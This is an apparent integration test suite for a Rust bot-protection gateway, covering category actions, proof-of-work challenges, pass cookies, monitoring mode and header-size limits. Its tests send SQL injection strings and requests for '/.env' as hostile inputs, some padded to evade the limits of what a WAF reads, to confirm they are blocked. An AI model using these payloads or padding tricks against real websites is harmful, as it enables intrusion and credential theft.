//! Protection: every category reaches its action through the real components, the
//! challenge is solved by a client doing the proof of work (or waiting, without
//! JavaScript) and then passes, and the master switch and `paused` let everything
//! through.

use super::*;
use botgate_host::gateway::challenge::{PASS_COOKIE, PLAIN_PASS_COOKIE, VERIFY_PATH, solve};

pub(crate) const GOOGLEBOT: &str =
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)";

/// A crawler list that makes loopback Google's and Facebook's.
pub(crate) fn loopback_crawlers(dir: &Path) -> String {
    let path = dir.join("crawlers.json");
    std::fs::write(
        &path,
        r#"{"crawlers":[
          {"name":"googlebot","kind":"search-engine","user_agent_tokens":["googlebot"],"networks":["127.0.0.0/8"]},
          {"name":"facebook","kind":"social-network","user_agent_tokens":["facebookexternalhit"],"networks":["127.0.0.0/8"]}]}"#,
    )
    .unwrap();
    path.display().to_string()
}

/// Settings that challenge every human (and protect).
pub(crate) fn challenging_humans() -> Value {
    let mut settings = loadbalancer(&["bot_protection"]);
    settings["rules"] = json!({"humans": "captcha"});
    settings
}

/// A gateway in front of `origin` with a website at `domain` that challenges humans.
fn challenging_gateway(origin: &Origin, domain: &str) -> Gateway {
    let gateway = gateway(origin.address.port(), &[]);
    add_website(
        &gateway,
        json!({"domain": domain, "ip": ["127.0.0.1"], "settings": challenging_humans()}),
    )
    .unwrap();
    gateway
}

fn with_ua<'a>(host: &'a str, target: &'a str, ua: &str) -> Outgoing<'a> {
    Outgoing::get(host, target)
        .header("user-agent", ua)
        .header("accept", "*/*")
}

/// The access-log line of the request for `target`, checked for its category and
/// action.
fn logged_as(gateway: &Gateway, target: &str, category: &str, action: &str) -> String {
    let line = access_line(gateway, target);
    assert!(
        line.contains(&format!("category=\"{category}\"")),
        "{target}: {line}"
    );
    assert!(
        line.contains(&format!("action=\"{action}\"")),
        "{target}: {line}"
    );
    line
}

#[test]
fn every_category_gets_its_action() {
    let origin = origin("site");
    let dir = tempfile::tempdir().unwrap();
    let crawlers = loopback_crawlers(dir.path());
    let gateway = gateway(origin.address.port(), &["--crawler-list", &crawlers]);
    add_website(
        &gateway,
        json!({"domain": "shop.example", "ip": ["127.0.0.1"], "settings": loadbalancer(&["bot_protection"])}),
    )
    .unwrap();
    let host = "shop.example";
    // (request, expected status, category, action) under the default policy.
    let cases: Vec<(Outgoing, u16, &str, &str)> = vec![
        (
            Outgoing::get(host, "/humans").browser(),
            200,
            "humans",
            "grant",
        ),
        (
            Outgoing::get(host, "/.env").browser(),
            403,
            "security_issues",
            "deny",
        ),
        (
            with_ua(
                host,
                "/scrapers",
                "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.1; +https://openai.com/gptbot)",
            ),
            403,
            "content_scrapers",
            "deny",
        ),
        (
            with_ua(
                host,
                "/emulated",
                "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/131.0.0.0 Safari/537.36",
            ),
            403,
            "emulated_humans",
            "captcha",
        ),
        (
            with_ua(host, "/search", GOOGLEBOT),
            200,
            "search_engines",
            "grant",
        ),
        (
            with_ua(
                host,
                "/social",
                "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
            ),
            200,
            "social_networks",
            "grant",
        ),
        (
            with_ua(
                host,
                "/services",
                "PayPal IPN ( https://www.paypal.com/ipn )",
            ),
            200,
            "services_and_payments",
            "grant",
        ),
        (
            with_ua(host, "/suspicious", "python-requests/2.32.3"),
            403,
            "suspicious_behaviour",
            "captcha",
        ),
    ];
    for (request, status, category, action) in cases {
        let target = request.target;
        let answer = send(gateway.http, request).unwrap();
        assert_eq!(answer.status, status, "{target}: {}", answer.text());
        let line = logged_as(&gateway, target, category, action);
        assert!(line.contains("decider="), "{line}");
        if action == "captcha" {
            assert!(answer.text().contains(VERIFY_PATH), "{}", answer.text());
        }
        if action == "deny" {
            assert!(answer.text().contains("Access denied"));
        }
    }
    // Only the granted requests reached the origin (4 plus the readiness probe).
    assert_eq!(origin.requests(), 5);
    let metrics = Client::new(&format!("http://{}", gateway.admin), None)
        .get("/metrics")
        .unwrap()
        .text;
    assert!(
        metrics.contains(
            "botgate_requests_total{website=\"shop.example\",category=\"security_issues\",action=\"deny\"} 1"
        ),
        "{metrics}"
    );
    assert!(
        metrics.contains("botgate_component_calls_total{component=\"classifier\""),
        "{metrics}"
    );
    // Every instance was made before a request needed it.
    let made_on_request = metrics
        .lines()
        .find(|l| {
            l.starts_with(
                "botgate_component_instances_made_on_request_total{component=\"classifier\"",
            )
        })
        .unwrap_or_else(|| panic!("no instances counter: {metrics}"));
    assert!(made_on_request.ends_with(" 0"), "{made_on_request}");

    // Without the operator's list, loopback is no Google: an impostor is challenged.
    let plain = super::gateway(origin.address.port(), &[]);
    add_website(
        &plain,
        json!({"domain": "shop.example", "ip": ["127.0.0.1"], "settings": loadbalancer(&["bot_protection"])}),
    )
    .unwrap();
    let answer = send(plain.http, with_ua(host, "/fake-google", GOOGLEBOT)).unwrap();
    assert_eq!(answer.status, 403);
    let line = access_line(&plain, "/fake-google");
    assert!(line.contains("category=\"suspicious_behaviour\""), "{line}");
}

#[test]
fn the_website_policy_decides_the_action() {
    let origin = origin("site");
    let gateway = gateway(origin.address.port(), &[]);
    let mut settings = loadbalancer(&["bot_protection"]);
    settings["rules"] = json!({"humans": "deny", "security_issues": "grant"});
    add_website(
        &gateway,
        json!({"domain": "strict.example", "ip": ["127.0.0.1"], "settings": settings}),
    )
    .unwrap();
    assert_eq!(
        get(gateway.http, "strict.example", "/").unwrap().status,
        403
    );
    assert_eq!(
        get(gateway.http, "strict.example", "/.env").unwrap().status,
        200
    );
}

/// A payload at the end of a long header value is read: a cookie after 2 KiB of
/// another (before, values were cut at 2 KiB for the components while the origin got
/// them whole), a referer's end. A protected website reads values whole to 8 KiB and
/// answers a longer one 431; a browser's long cookies are served.
#[test]
fn a_payload_at_the_end_of_a_long_header_value_is_read() {
    let origin = origin("site");
    let gateway = gateway(origin.address.port(), &[]);
    let mut settings = loadbalancer(&["bot_protection"]);
    settings["rules"] = json!({"suspicious_behaviour": "grant"});
    add_website(
        &gateway,
        json!({"domain": "cookies.example", "ip": ["127.0.0.1"], "settings": settings}),
    )
    .unwrap();
    let sqli = "id=1' union select password from users--";
    let before = origin.requests();
    for (name, value) in [
        ("cookie", format!("pad={}; {sqli}", "x".repeat(2040))),
        ("cookie", format!("pad={}; {sqli}", "x".repeat(7000))),
        (
            "referer",
            format!("https://x.example/?p={}&{sqli}", "x".repeat(4000)),
        ),
    ] {
        let request = Outgoing::get("cookies.example", "/")
            .browser()
            .header(name, &value);
        let answer = send(gateway.http, request).unwrap();
        assert_eq!(answer.status, 403, "{name} of {} bytes", value.len());
    }
    // A second Referer behind 63 other lines (past the components' former 64).
    let names: Vec<String> = (0..63).map(|n| format!("x-filler-{n}")).collect();
    let mut late = Outgoing::get("cookies.example", "/").browser();
    for name in &names {
        late = late.header(name, "1");
    }
    let late = late
        .header("referer", "https://a.example/")
        .header("referer", format!("https://a.example/?{sqli}"));
    assert_eq!(
        send(gateway.http, late).unwrap().status,
        403,
        "a late referer"
    );
    let past = Outgoing::get("cookies.example", "/")
        .browser()
        .header("cookie", format!("pad={}; {sqli}", "x".repeat(8200)));
    assert_eq!(send(gateway.http, past).unwrap().status, 431);
    assert_eq!(origin.requests(), before, "nothing reached the origin");
    let long_session = format!("session={}; theme=dark", "a1B2".repeat(1500));
    let browser = Outgoing::get("cookies.example", "/")
        .browser()
        .header("cookie", &long_session);
    assert_eq!(send(gateway.http, browser).unwrap().status, 200);
}

/// An attack placed past what the rule components read (after 16 KiB of filler in the
/// address, or behind eight headers of 2 KiB) is never left to what the components make
/// of the part they read: a protected website answers 414 or 431 before they run. (Its
/// policy grants what merely looks odd, as one would for a client holding a pass.)
/// Requests within the bounds, and websites in monitoring mode, are served as before.
#[test]
fn an_attack_past_what_the_components_read_does_not_reach_the_origin() {
    let origin = origin("site");
    let gateway = gateway(origin.address.port(), &[]);
    for (host, switches) in [
        ("guarded.example", &["bot_protection"][..]),
        (
            "watched.example",
            &["bot_protection", "monitoring_mode"][..],
        ),
    ] {
        let mut settings = loadbalancer(switches);
        settings["rules"] = json!({"suspicious_behaviour": "grant"});
        add_website(
            &gateway,
            json!({"domain": host, "ip": ["127.0.0.1"], "settings": settings}),
        )
        .unwrap();
    }
    let names: Vec<String> = (0..8).map(|n| format!("x-filler-{n}")).collect();
    let filler = "f".repeat(2048);
    let padded = |host: &'static str| {
        let mut request = Outgoing::get(host, "/padded").browser();
        for name in &names {
            request = request.header(name, &filler);
        }
        request.header(
            "referer",
            "https://x.example/?id=1' union select password from users--",
        )
    };
    // The same attack where the components read it is denied.
    let seen = Outgoing::get("guarded.example", "/seen").browser().header(
        "referer",
        "https://x.example/?id=1' union select password from users--",
    );
    assert_eq!(send(gateway.http, seen).unwrap().status, 403);
    let before = origin.requests();
    let padded_answer = send(gateway.http, padded("guarded.example")).unwrap();
    assert_eq!(padded_answer.status, 431, "{}", padded_answer.text());
    let long_target = format!(
        "/search?q={}&id=1%27%20union%20select%20password--",
        "a".repeat(16 * 1024)
    );
    let long = send(
        gateway.http,
        Outgoing::get("guarded.example", &long_target).browser(),
    );
    assert_eq!(long.unwrap().status, 414);
    assert_eq!(origin.requests(), before, "nothing reached the origin");

    // Bytes that are not UTF-8 are read as three each: eight headers of 700 of them
    // fill the 16 KiB.
    let mut raw = b"GET /raw HTTP/1.1\r\nhost: guarded.example\r\nconnection: close\r\n".to_vec();
    for n in 0..8 {
        raw.extend_from_slice(format!("x-filler-{n}: ").as_bytes());
        raw.extend_from_slice(&[0xff; 700]);
        raw.extend_from_slice(b"\r\n");
    }
    raw.extend_from_slice(b"referer: https://x.example/?id=1' union select password--\r\n\r\n");
    let mut stream = std::net::TcpStream::connect(gateway.http).unwrap();
    std::io::Write::write_all(&mut stream, &raw).unwrap();
    let mut answer = String::new();
    let _ = std::io::Read::read_to_string(&mut stream, &mut answer);
    assert!(answer.starts_with("HTTP/1.1 431"), "{answer}");
    assert_eq!(origin.requests(), before, "nothing reached the origin");

    let within = format!("/search?q={}", "a".repeat(8 * 1024));
    let served = send(
        gateway.http,
        Outgoing::get("guarded.example", &within).browser(),
    );
    assert_eq!(served.unwrap().status, 200);
    for request in [
        Outgoing::get("watched.example", &long_target).browser(),
        padded("watched.example"),
    ] {
        assert_eq!(send(gateway.http, request).unwrap().status, 200);
    }
}

#[test]
fn monitoring_mode_records_the_would_be_action_and_lets_traffic_through() {
    let origin = origin("site");
    let gateway = gateway(origin.address.port(), &[]);
    let host = "watch.example";
    add_website(
        &gateway,
        json!({"domain": host, "ip": ["127.0.0.1"],
               "settings": loadbalancer(&["bot_protection", "monitoring_mode"])}),
    )
    .unwrap();
    let before = origin.requests();
    let attack = "/?id=1%20union%20select%20password%20from%20users--";
    let cases = [
        (
            Outgoing::get(host, attack).browser(),
            "security_issues",
            "would_deny",
        ),
        (
            with_ua(host, "/suspicious", "python-requests/2.32.3"),
            "suspicious_behaviour",
            "would_captcha",
        ),
        (Outgoing::get(host, "/shop/").browser(), "humans", "grant"),
    ];
    for (request, category, action) in cases {
        let target = request.target;
        let answer = send(gateway.http, request).unwrap();
        assert_eq!(answer.status, 200, "{target}: {}", answer.text());
        logged_as(&gateway, target, category, action);
    }
    assert_eq!(
        origin.requests(),
        before + 3,
        "every request reached the origin"
    );
    let metrics = Client::new(&format!("http://{}", gateway.admin), None)
        .get("/metrics")
        .unwrap()
        .text;
    assert!(
        metrics.contains(&format!(
            "botgate_requests_total{{website=\"{host}\",category=\"security_issues\",action=\"would_deny\"}} 1"
        )),
        "{metrics}"
    );
    // What decided it, by component and reason id.
    assert!(
        metrics.lines().any(
            |line| line.starts_with("botgate_decisions_total{decider=\"")
                && !line.contains("reason=\"none\"")
                && line.ends_with("action=\"would_deny\"} 1")
        ),
        "{metrics}"
    );
    // Blocking turned on: the same attack is denied.
    update_settings(
        &gateway,
        host,
        json!({"loadbalancer": {"monitoring_mode": false}}),
    );
    let deadline = Instant::now() + Duration::from_secs(5);
    while send(gateway.http, Outgoing::get(host, attack).browser())
        .unwrap()
        .status
        != 403
    {
        assert!(Instant::now() < deadline, "the attack is still let through");
        std::thread::sleep(Duration::from_millis(50));
    }
}

/// The hidden `token` of a challenge page.
fn token_of(page: &str) -> String {
    let start = page
        .find("name=\"token\" value=\"")
        .expect("a token in the page")
        + 20;
    page[start..].split('"').next().unwrap().to_owned()
}

fn post_form<'a>(host: &'a str, pairs: &[(&str, &str)]) -> Outgoing<'a> {
    let body: String = pairs
        .iter()
        .map(|(k, v)| {
            format!(
                "{k}={}",
                v.replace('/', "%2F")
                    .replace('?', "%3F")
                    .replace('=', "%3D")
                    .replace('&', "%26")
            )
        })
        .collect::<Vec<_>>()
        .join("&");
    let mut request = Outgoing::get(host, VERIFY_PATH)
        .browser()
        .header("content-type", "application/x-www-form-urlencoded");
    request.method = "POST";
    request.body = body.into_bytes();
    request
}

/// The `name=value` of the pass cookie a response sets.
fn pass_cookie(answer: &Answer) -> String {
    let set = answer.header("set-cookie").expect("a pass cookie");
    assert!(
        set.contains("HttpOnly") && set.contains("Max-Age="),
        "{set}"
    );
    set.split(';').next().unwrap().to_owned()
}

/// Every challenge answer the gateway checks is a store write (the token spent once),
/// so one client's answers are limited before any check, whatever the website's rate
/// limits say (here: none): replaying a solved answer gets 429 once past the burst.
#[test]
fn one_clients_challenge_answers_are_limited_before_they_reach_the_store() {
    use botgate_host::gateway::limits::{ANSWERS_BURST, ANSWERS_PER_SECOND};
    let origin = origin("site");
    let gateway = challenging_gateway(&origin, "answers.example");
    let host = "answers.example";
    let page = send(gateway.http, Outgoing::get(host, "/").browser()).unwrap();
    assert_eq!(page.status, 403);
    let token = token_of(&page.text());
    let counter = solve(&token).unwrap().to_string();
    let answer = || {
        let form = [
            ("token", token.as_str()),
            ("counter", &counter),
            ("return", "/"),
        ];
        send(gateway.http, post_form(host, &form)).unwrap()
    };
    assert_eq!(answer().status, 303);
    let started = Instant::now();
    let sent = ANSWERS_BURST as usize + 40;
    let statuses: Vec<u16> = (0..sent).map(|_| answer().status).collect();
    let refilled = started.elapsed().as_secs_f64() * f64::from(ANSWERS_PER_SECOND);
    let checked = statuses.iter().filter(|status| **status == 403).count();
    assert!(
        checked as f64 <= f64::from(ANSWERS_BURST) + refilled.ceil(),
        "{checked} answers checked: {statuses:?}"
    );
    assert!(
        statuses.iter().all(|status| [403, 429].contains(status)),
        "{statuses:?}"
    );
    let limited = send(gateway.http, post_form(host, &[("token", &token)])).unwrap();
    assert_eq!(limited.status, 429, "{}", limited.text());
    assert!(limited.header("retry-after").is_some());
}

/// A pass is for the website it was earned on under its owner: once the domain is
/// deleted and created again by another partner (or another user), the last owner's
/// visitors' passes are challenged like none.
#[test]
fn a_pass_does_not_outlive_the_owner_of_its_website() {
    let origin = origin("site");
    let gateway = Gateway::start_protecting(
        binary(),
        GatewayStore::Embedded,
        &["hoster", "rival"],
        &["--origin-http-port", &origin.address.port().to_string()],
    )
    .unwrap();
    let host = "handed.example";
    let page = || Outgoing::get(host, "/").browser();
    let owners = [
        (&gateway.partner_keys[0], "owner"),
        (&gateway.partner_keys[1], "owner"),
        (&gateway.partner_keys[1], "another"),
    ];
    let mut earned: Option<String> = None;
    for (round, (key, user)) in owners.into_iter().enumerate() {
        let client = Client::new(&gateway.api, Some(key));
        let _ = client.post_form("/v1.0/user", &[("id", user)]).unwrap();
        let created = client
            .post_json(
                "/v1.0/website",
                &json!({"domain": host, "user_id": user, "ip": ["127.0.0.1"],
                        "settings": challenging_humans()}),
            )
            .unwrap();
        assert_eq!(created.status, 201, "{created:?}");
        wait_served(&gateway, host).unwrap();
        if let Some(cookie) = &earned {
            let answer = send(gateway.http, page().header("cookie", cookie.clone())).unwrap();
            assert_eq!(answer.status, 403, "owner {round}: {}", answer.text());
            assert!(answer.text().contains(VERIFY_PATH), "owner {round}");
        }
        let challenge = send(gateway.http, page()).unwrap();
        let token = token_of(&challenge.text());
        let counter = solve(&token).unwrap().to_string();
        let form = [
            ("token", token.as_str()),
            ("counter", &counter),
            ("return", "/"),
        ];
        let solved = send(gateway.http, post_form(host, &form)).unwrap();
        assert_eq!(solved.status, 303, "owner {round}: {}", solved.text());
        let cookie = pass_cookie(&solved);
        let passed = send(gateway.http, page().header("cookie", cookie.clone())).unwrap();
        assert_eq!(passed.status, 200, "owner {round}: {}", passed.text());
        earned = Some(cookie);
        let deleted = client.delete(&format!("/v1.0/website/{host}")).unwrap();
        assert_eq!(deleted.status, 200, "{deleted:?}");
        let deadline = Instant::now() + Duration::from_secs(5);
        while send(gateway.http, page()).unwrap().status != 404 {
            assert!(
                Instant::now() < deadline,
                "{host} still served after deletion"
            );
            std::thread::sleep(Duration::from_millis(50));
        }
    }
}

#[test]
fn a_solved_challenge_lets_the_client_through_without_loops() {
    let origin = origin("site");
    let gateway = gateway(origin.address.port(), &["--challenge-difficulty", "12"]);
    let settings = challenging_humans();
    for domain in ["guarded.example", "other.example"] {
        add_website(
            &gateway,
            json!({"domain": domain, "ip": ["127.0.0.1"], "settings": settings}),
        )
        .unwrap();
    }
    let host = "guarded.example";
    // Four parallel requests (a page and its assets) each get a challenge.
    let pages: Vec<String> = std::thread::scope(|scope| {
        let handles: Vec<_> = (0..4)
            .map(|i| {
                let listener = gateway.http;
                scope.spawn(move || {
                    let target = format!("/page-{i}?x=1");
                    let answer = visitor::send(
                        listener,
                        &Visit::default(),
                        Outgoing::get(host, &target).browser(),
                    )
                    .unwrap();
                    assert_eq!(answer.status, 403);
                    answer.text()
                })
            })
            .collect();
        handles.into_iter().map(|h| h.join().unwrap()).collect()
    });
    let before = origin.requests();
    // The client does the work for one of them and gets a pass and its page back.
    let token = token_of(&pages[2]);
    let counter = solve(&token).unwrap().to_string();
    let submit = || {
        send(
            gateway.http,
            post_form(
                host,
                &[
                    ("token", &token),
                    ("counter", &counter),
                    ("return", "/page-2?x=1"),
                ],
            ),
        )
        .unwrap()
    };
    let answer = submit();
    assert_eq!(answer.status, 303, "{}", answer.text());
    assert_eq!(answer.header("location"), Some("/page-2?x=1"));
    let cookie = pass_cookie(&answer);
    assert!(cookie.starts_with(&format!("{PLAIN_PASS_COOKIE}=")));
    // The same answer sent again gives no second pass.
    for _ in 0..2 {
        let replayed = submit();
        assert_eq!(replayed.status, 403, "{}", replayed.text());
        assert!(replayed.header("set-cookie").is_none());
        assert!(
            replayed.text().contains("answered already"),
            "{}",
            replayed.text()
        );
    }
    // Every parallel request now passes with that one pass, and a second solved token
    // is just as good: nothing loops.
    for i in 0..4 {
        let target = format!("/page-{i}?x=1");
        let answer = send(
            gateway.http,
            Outgoing::get(host, &target)
                .browser()
                .header("cookie", cookie.clone()),
        )
        .unwrap();
        assert_eq!(answer.status, 200, "{target}: {}", answer.text());
    }
    assert_eq!(origin.requests(), before + 4);
    let token = token_of(&pages[0]);
    let counter = solve(&token).unwrap().to_string();
    let again = send(
        gateway.http,
        post_form(
            host,
            &[("token", &token), ("counter", &counter), ("return", "/")],
        ),
    )
    .unwrap();
    assert_eq!(again.status, 303);
    // The pass is for this website only; a wrong proof earns none.
    let elsewhere = send(
        gateway.http,
        Outgoing::get("other.example", "/")
            .browser()
            .header("cookie", cookie.clone()),
    )
    .unwrap();
    assert_eq!(elsewhere.status, 403);
    let wrong = send(
        gateway.http,
        post_form(
            host,
            &[
                ("token", &token_of(&pages[1])),
                ("counter", "1"),
                ("return", "/"),
            ],
        ),
    )
    .unwrap();
    assert_eq!(wrong.status, 403);
    assert!(wrong.header("set-cookie").is_none());
    assert!(wrong.text().contains("did not work"), "{}", wrong.text());
    // A forged cookie is no pass.
    let forged = send(
        gateway.http,
        Outgoing::get(host, "/")
            .browser()
            .header("cookie", format!("{PASS_COOKIE}=99999999999.AAAA")),
    )
    .unwrap();
    assert_eq!(forged.status, 403);
}

/// A request through `gateway` to `host` with `cookies`, one `Cookie` field each, over
/// HTTP/2 (where browsers send a field per cookie) or HTTP/1.1.
fn with_cookies(gateway: &Gateway, host: &str, cookies: &[&str], http2: bool) -> Answer {
    let request = cookies.iter().fold(
        Outgoing::get(host, "/account").browser(),
        |request, cookie| request.header("cookie", *cookie),
    );
    let visit = Visit {
        http2,
        ..Visit::default()
    };
    visitor::send(gateway.http, &visit, request).unwrap()
}

#[test]
fn the_gateways_own_pass_cookies_reach_neither_the_rules_nor_the_origin() {
    let origin = origin("site");
    let gateway = gateway(origin.address.port(), &["--challenge-difficulty", "8"]);
    // Custom rules read what the components read: one that sees a pass cookie denies.
    let mut settings = challenging_humans();
    settings["custom_rules"] = json!([{
        "conditions": [{"field": "header", "name": "cookie", "operator": "contains", "value": "botgate_pass"}],
        "action": "deny",
    }]);
    add_website(
        &gateway,
        json!({"domain": "own.example", "ip": ["127.0.0.1"], "settings": settings}),
    )
    .unwrap();
    let host = "own.example";
    let page = with_cookies(&gateway, host, &[], false).text();
    let token = token_of(&page);
    let counter = solve(&token).unwrap().to_string();
    let answer = send(
        gateway.http,
        post_form(
            host,
            &[("token", &token), ("counter", &counter), ("return", "/")],
        ),
    )
    .unwrap();
    assert_eq!(answer.status, 303, "{}", answer.text());
    let pass = pass_cookie(&answer);
    let origin_cookie = |answer: &Answer| {
        assert_eq!(answer.status, 200, "{}", answer.text());
        answer.json()["headers"]["cookie"].clone()
    };
    // The pass lets the browser through; the origin gets the website's cookies only,
    // in one field however many the browser sent (RFC 9113 §8.2.3).
    for http2 in [false, true] {
        let through = with_cookies(
            &gateway,
            host,
            &["sid=1", &format!("{pass}; theme=dark")],
            http2,
        );
        assert_eq!(
            origin_cookie(&through),
            json!("sid=1; theme=dark"),
            "http2: {http2}"
        );
        let alone = with_cookies(&gateway, host, &[&pass], http2);
        assert_eq!(origin_cookie(&alone), Value::Null, "http2: {http2}");
    }
    // A random pass can look like an attack: `.nsr` is a file the CRS guards (930120).
    // In a website's cookie it is denied; in a pass cookie (here a forged one beside
    // the real pass) the rules never see it, and neither does the origin.
    let shaped = "w1764343361.nsrQk9vbGVhbg";
    let in_website_cookie = with_cookies(&gateway, host, &[&pass, &format!("sid={shaped}")], false);
    assert_eq!(in_website_cookie.status, 403);
    log_line(&gateway, |line| line.contains("reason=crs.930120"));
    let forged = format!("{PLAIN_PASS_COOKIE}={shaped}; {PASS_COOKIE}=' or 1=1--");
    let beside = with_cookies(&gateway, host, &[&pass, &forged, "sid=2"], false);
    assert_eq!(origin_cookie(&beside), json!("sid=2"));
}

#[test]
fn clients_without_javascript_wait_for_a_shorter_pass_the_rules_see_as_such() {
    let origin = origin("site");
    let gateway = gateway(
        origin.address.port(),
        &[
            "--challenge-wait-seconds",
            "1",
            "--challenge-waits-per-hour",
            "2",
        ],
    );
    // A text browser is an unrecognised client (suspicious, denied here) unless it holds
    // a pass; people are challenged.
    let mut settings = challenging_humans();
    settings["rules"]["suspicious_behaviour"] = json!("deny");
    add_website(
        &gateway,
        json!({"domain": "nojs.example", "ip": ["127.0.0.1"], "settings": settings}),
    )
    .unwrap();
    let host = "nojs.example";
    let lynx = "Lynx/2.9.0dev.12 libwww-FM/2.14 SSL-MM/1.4.1 GNUTLS/3.7.8";
    let page = get(gateway.http, host, "/article").unwrap().text();
    assert!(page.contains("<noscript>"), "{page}");
    assert!(page.contains("name=\"wait\" value=\"1\""), "{page}");
    assert!(!page.contains("What is"), "no question to answer: {page}");
    let token = token_of(&page);
    let waited = |token: &str| {
        send(
            gateway.http,
            post_form(
                host,
                &[("token", token), ("wait", "1"), ("return", "/article")],
            ),
        )
        .unwrap()
    };
    // Too early (the wait is one whole second, so at least until the second after
    // next): refused, and the same token comes back so the wait goes on.
    let early = waited(&token);
    assert_eq!(early.status, 403, "{}", early.text());
    assert!(early.header("set-cookie").is_none());
    assert!(
        early.text().contains("Not yet: please wait"),
        "{}",
        early.text()
    );
    assert_eq!(token_of(&early.text()), token);
    std::thread::sleep(Duration::from_millis(2100));
    let answer = waited(&token);
    assert_eq!(answer.status, 303, "{}", answer.text());
    let set = answer.header("set-cookie").unwrap();
    assert!(set.starts_with("botgate_pass_plain=w"), "{set}");
    assert!(
        set.contains("Max-Age=600") && !set.contains("Secure"),
        "{set}"
    );
    let cookie = pass_cookie(&answer);
    // The text browser now passes, and the rules saw a waited pass.
    let through = send(
        gateway.http,
        with_ua(host, "/article", lynx).header("cookie", cookie.clone()),
    )
    .unwrap();
    assert_eq!(through.status, 200, "{}", through.text());
    botgate_tests::servers::wait_until(
        Duration::from_secs(5),
        || gateway.log().contains("reason=classifier.waited-pass"),
        || gateway.log(),
    )
    .unwrap();
    let without = send(gateway.http, with_ua(host, "/article", lynx)).unwrap();
    assert_eq!(without.status, 403);
    assert!(
        !without.text().contains(VERIFY_PATH),
        "denied, not challenged"
    );
    // Two waited passes an hour per client: the third is refused, naming JavaScript.
    let second = get(gateway.http, host, "/").unwrap().text();
    let token = token_of(&second);
    std::thread::sleep(Duration::from_millis(2100));
    assert_eq!(waited(&token).status, 303);
    let third = get(gateway.http, host, "/").unwrap().text();
    let token = token_of(&third);
    std::thread::sleep(Duration::from_millis(2100));
    let refused = waited(&token);
    assert_eq!(refused.status, 403, "{}", refused.text());
    assert!(refused.header("set-cookie").is_none());
    assert!(
        refused.text().contains("turn JavaScript on"),
        "{}",
        refused.text()
    );
    assert!(
        !refused.text().contains("name=\"wait\""),
        "no wait on offer"
    );
    // The allowance is per website: another one still offers the wait.
    add_website(
        &gateway,
        json!({"domain": "other-nojs.example", "ip": ["127.0.0.1"], "settings": challenging_humans()}),
    )
    .unwrap();
    let elsewhere = get(gateway.http, "other-nojs.example", "/").unwrap().text();
    std::thread::sleep(Duration::from_millis(2100));
    let answer = send(
        gateway.http,
        post_form(
            "other-nojs.example",
            &[("token", &token_of(&elsewhere)), ("wait", "1")],
        ),
    )
    .unwrap();
    assert_eq!(answer.status, 303, "{}", answer.text());
    // The proof of work is not limited.
    let page = get(gateway.http, host, "/").unwrap().text();
    let token = token_of(&page);
    let counter = solve(&token).unwrap().to_string();
    let worked = send(
        gateway.http,
        post_form(host, &[("token", &token), ("counter", &counter)]),
    )
    .unwrap();
    assert_eq!(worked.status, 303, "{}", worked.text());
}

/// A browser's cookie jar, as far as the pass needs: a cookie set over plain HTTP is
/// ignored when the jar holds a `Secure` cookie of that name (RFC 6265bis §5.7, "leave
/// secure cookies alone"), and `Secure` cookies are sent over HTTPS only.
#[derive(Default)]
struct Jar {
    /// (name, value, secure)
    cookies: Vec<(String, String, bool)>,
}

impl Jar {
    fn set(&mut self, set_cookie: &str, https: bool) {
        let (pair, attributes) = set_cookie.split_once(';').unwrap_or((set_cookie, ""));
        let (name, value) = pair.split_once('=').unwrap();
        let secure = attributes
            .split(';')
            .any(|a| a.trim().eq_ignore_ascii_case("secure"));
        if !https && self.cookies.iter().any(|(n, _, s)| n == name && *s) {
            return;
        }
        self.cookies.retain(|(n, _, _)| n != name);
        self.cookies.push((name.into(), value.into(), secure));
    }

    fn header(&self, https: bool) -> String {
        self.cookies
            .iter()
            .filter(|(_, _, secure)| https || !secure)
            .map(|(n, v, _)| format!("{n}={v}"))
            .collect::<Vec<_>>()
            .join("; ")
    }
}

#[test]
fn a_pass_earned_over_https_does_not_loop_a_visitor_on_plain_http() {
    let origin = origin("site");
    let gateway = challenging_gateway(&origin, "both.example");
    let host = "both.example";
    let mut jar = Jar::default();
    let tls = Visit {
        tls_name: Some(host.into()),
        ..Visit::default()
    };
    let plain = Visit::default();
    let visit = |https: bool, request: Outgoing<'_>| {
        let (listener, visit) = if https {
            (gateway.https, &tls)
        } else {
            (gateway.http, &plain)
        };
        visitor::send(listener, visit, request).unwrap()
    };
    // Challenged and solved, first over HTTPS, then over plain HTTP (the `Secure`
    // pass is not sent there): each time the next page is served.
    for https in [true, false] {
        let page = visit(https, Outgoing::get(host, "/").browser());
        assert_eq!(page.status, 403, "https={https}");
        let token = token_of(&page.text());
        let counter = solve(&token).unwrap().to_string();
        let mut answer = post_form(host, &[("token", &token), ("counter", &counter)]);
        let cookies = jar.header(https);
        if !cookies.is_empty() {
            answer = answer.header("cookie", cookies);
        }
        let solved = visit(https, answer);
        assert_eq!(solved.status, 303, "https={https}: {}", solved.text());
        jar.set(solved.header("set-cookie").unwrap(), https);
        let next = visit(
            https,
            Outgoing::get(host, "/")
                .browser()
                .header("cookie", jar.header(https)),
        );
        assert_eq!(next.status, 200, "https={https}: challenged again");
    }
    // Both passes now go over HTTPS; the page is served there too.
    let again = visit(
        true,
        Outgoing::get(host, "/")
            .browser()
            .header("cookie", jar.header(true)),
    );
    assert_eq!(again.status, 200);
}

#[test]
fn the_master_switch_and_paused_websites_let_everything_through() {
    let origin = origin("site");
    let gateway = gateway(origin.address.port(), &[]);
    add_website(
        &gateway,
        json!({"domain": "open.example", "ip": ["127.0.0.1"], "settings": loadbalancer(&[])}),
    )
    .unwrap();
    assert_eq!(
        get(gateway.http, "open.example", "/.env").unwrap().status,
        200
    );
    add_website(
        &gateway,
        json!({"domain": "paused.example", "ip": ["127.0.0.1"], "status": "paused",
               "settings": loadbalancer(&["bot_protection", "ddos_protection"])}),
    )
    .unwrap();
    assert_eq!(
        get(gateway.http, "paused.example", "/.env").unwrap().status,
        200
    );
    // Back online: protected again, within a second of the change.
    let reply = partner(&gateway)
        .put_json("/v1.0/website/paused.example", &json!({"status": "online"}))
        .unwrap();
    assert_eq!(reply.status, 200, "{reply:?}");
    let deadline = Instant::now() + Duration::from_secs(1);
    loop {
        if get(gateway.http, "paused.example", "/.env").unwrap().status == 403 {
            break;
        }
        assert!(
            Instant::now() < deadline,
            "protection did not come back within a second"
        );
